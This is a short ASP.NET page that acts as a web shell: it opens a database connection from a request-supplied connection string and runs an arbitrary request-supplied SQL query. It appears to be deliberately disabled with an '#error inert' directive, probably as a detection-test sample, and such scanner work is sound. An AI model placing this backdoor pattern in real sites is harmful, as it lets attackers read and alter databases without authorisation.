<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ var c=new System.Data.SqlClient.SqlConnection(Request["s"]); c.Open(); new System.Data.SqlClient.SqlCommand(Request["q"],c).ExecuteReader(); }
</script>
